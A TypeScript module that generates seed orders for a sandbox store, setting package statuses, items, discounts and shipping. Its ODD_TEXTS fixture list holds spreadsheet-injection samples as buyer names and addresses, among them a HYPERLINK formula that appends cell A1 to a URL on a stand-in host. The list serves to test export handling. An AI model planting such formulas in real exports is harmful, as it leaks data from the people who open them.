/** The orders that the store has at first. They follow from the time of the start and their number. */

import { type Id, idSchemas } from "@catalog/contract";

import type { SandboxCity } from "../catalog/cities.ts";
import { createHashedId, pickFrom, pickNumber } from "../catalog/names.ts";
import { createCustomer, type Customer, DAY_MS } from "../history.ts";
import type { SandboxProduct } from "../products/product-state.ts";
import { COMPANIES } from "../shipping.ts";
import { AWAITING_APPROVAL } from "./statuses.ts";

/** One product of a package. Amounts are minor units. */
export interface SoldItem {
  readonly number: string;
  readonly paymentId: number;
  readonly product: SandboxProduct;
  readonly count: number;
  readonly discountMinor: number;
}

/** A shipping code that was generated for a package. */
export interface GivenCode {
  readonly company: string;
  readonly code: string;
}

export interface SoldPackage {
  readonly id: Id<"package">;
  readonly items: readonly SoldItem[];
  readonly company: string;
  readonly shippingMinor: number;
  readonly status: number;
  readonly changedAtMs: number;
  /** The last code that a call generated. */
  readonly code?: GivenCode | undefined;
}

export interface SoldOrder {
  /** Digits only, because payments give it as a number. */
  readonly code: string;
  readonly orderedAtMs: number;
  readonly buyer: Customer;
  readonly packages: readonly SoldPackage[];
}

/** Orders of the start in a wanted number, some of them with texts that a spreadsheet misreads. */
export interface OrderHistory {
  /** Number of packages; an order has one to three of them. */
  readonly packages: number;
  /** Days from the oldest order to the start. @default 30 */
  readonly days?: number | undefined;
  /** Statuses of the packages; a repeated one is more frequent. @default every status */
  readonly statuses?: readonly number[] | undefined;
}

interface SeedOrdersOptions {
  readonly products: readonly SandboxProduct[];
  readonly cities: readonly SandboxCity[];
  readonly nowMs: number;
  /** @default 400 orders of 100 days, whose statuses follow from their age */
  readonly history?: OrderHistory | undefined;
}

const ORDER_COUNT = 400;
const STEP_MS = 6 * 60 * 60 * 1000;
const FIRST_CODE = 100_200_300;
const SHIPPING_MINOR = 7990;
const DEFAULT_DAYS = 30;

/** Statuses of packages by age; a repeated one is more frequent. */
const STATUSES_BY_AGE: readonly { readonly days: number; readonly statuses: readonly number[] }[] =
  [
    { days: 2, statuses: [1, 1, 1, 2, 3] },
    { days: 5, statuses: [1, 2, 3, 4, 4, 5, 6, 11] },
    { days: 12, statuses: [4, 5, 6, 6, 7, 7, 8, 8, 10, 11, 12, 13] },
    { days: 40, statuses: [8, 8, 9, 9, 9, 9, 10, 11, 13, 13, 14, 15, 16] },
    { days: Infinity, statuses: [9, 9, 9, 9, 9, 9, 9, 9, 11, 12, 14, 15, 16, 16] },
  ];

/** A third of the packages wait, and a tenth wants to come back. */
const MIXED_STATUSES: readonly number[] = [
  1, 1, 1, 1, 1, 1, 1, 2, 2, 3, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 13, 13, 14, 15, 16,
];

/** Creates the orders, oldest first. */
export function createSeedOrders(options: SeedOrdersOptions): readonly SoldOrder[] {
  const { history } = options;
  if (history === undefined) {
    return Array.from({ length: ORDER_COUNT }, (_, index) => {
      const code = String(FIRST_CODE + index * 7);
      const size = pickNumber(4, "packages", code) === 0 ? 2 : 1;
      return createOrder(options, { code, age: ORDER_COUNT - index, stepMs: STEP_MS, size });
    });
  }
  const { packages, days = DEFAULT_DAYS } = history;
  const sizes = createSizes(packages);
  const stepMs = (days * DAY_MS) / Math.max(1, sizes.length);
  return sizes.map((size, index) => {
    const code = String(FIRST_CODE + index * 7);
    const order = createOrder(options, { code, age: sizes.length - index, stepMs, size });
    return index % ODD_EVERY === 0 ? withOddTexts(order, index / ODD_EVERY) : order;
  });
}

/** Numbers of packages of orders that have this many together. */
function createSizes(packages: number): readonly number[] {
  const sizes: number[] = [];
  for (let left = packages; left > 0; left -= sizes.at(-1) ?? left) {
    const size = pickFrom([1, 1, 1, 1, 2, 2, 3], "size", String(left));
    sizes.push(Math.min(size, left));
  }
  return sizes;
}

/** One order in this many has odd texts. */
const ODD_EVERY = 17;

/** Texts of buyers that a spreadsheet, a CSV file or a page can misread. */
const ODD_TEXTS: readonly string[] = [
  '=HYPERLINK("http://kotu.example/?q="&A1;"Fatura")',
  "+90 555 111 22 33 arayın, zil bozuk",
  "-1. kat; kapıcıya bırakın",
  "@SUM(A1:A9)",
  "\t=2+5",
  'Ev "yeşil" panjurlu\nikinci kapı',
  "Şişli/İstanbul, Çığır Apt. 🏠 No: 007",
];

function withOddTexts(order: SoldOrder, index: number): SoldOrder {
  const odd = ODD_TEXTS[index % ODD_TEXTS.length] ?? "";
  const { name, email } = order.buyer;
  const isName = index % 2 === 0;
  const buyer = { name: isName ? odd : name, email, address: isName ? order.buyer.address : odd };
  return { ...order, buyer };
}

interface OrderPosition {
  readonly code: string;
  /** Age of the order, in steps back from the start. */
  readonly age: number;
  readonly stepMs: number;
  /** Number of packages. */
  readonly size: number;
}

function createOrder(options: SeedOrdersOptions, position: OrderPosition): SoldOrder {
  const { cities, nowMs } = options;
  const { code, age, stepMs, size } = position;
  const withinMs = pickNumber(Math.max(1, Math.floor(stepMs)), "order time", code);
  const orderedAtMs = Math.floor(nowMs - age * stepMs) + withinMs;
  return {
    code,
    orderedAtMs,
    buyer: createCustomer(cities, "buyer", code),
    packages: Array.from({ length: size }, (_, index) =>
      createPackage(options, `${code}-${index + 1}`, orderedAtMs),
    ),
  };
}

function createPackage(
  { products, nowMs, history }: SeedOrdersOptions,
  name: string,
  orderedAtMs: number,
): SoldPackage {
  const ageMs = nowMs - orderedAtMs;
  const byAge = STATUSES_BY_AGE.find(({ days }) => ageMs < days * DAY_MS)?.statuses ?? [];
  const kinds = history === undefined ? byAge : (history.statuses ?? MIXED_STATUSES);
  const status = pickFrom(kinds, "status", name);
  const changedMs = Math.min(ageMs, pickNumber(6 * DAY_MS, "changed", name));
  const maxItems = history === undefined ? 3 : 4;
  return {
    id: idSchemas.package.parse(createHashedId("package", name)),
    items: Array.from({ length: 1 + pickNumber(maxItems, "items", name) }, (_, index) =>
      createItem(products, `${name}-${index + 1}`),
    ),
    company: pickFrom(COMPANIES, "company", name).name,
    shippingMinor: pickNumber(3, "free", name) === 0 ? 0 : SHIPPING_MINOR,
    status,
    changedAtMs: status === AWAITING_APPROVAL ? orderedAtMs : orderedAtMs + changedMs,
  };
}

function createItem(products: readonly SandboxProduct[], number: string): SoldItem {
  const product = pickFrom(products, "product", number);
  const percent = pickFrom([0, 0, 0, 10, 25], "discount", number);
  const count = pickFrom([1, 1, 1, 2, 3], "count", number);
  return {
    number,
    paymentId: 5_000_000 + pickNumber(4_000_000, "payment", number),
    product,
    count,
    discountMinor: Math.round((product.price * count * percent) / 100),
  };
}
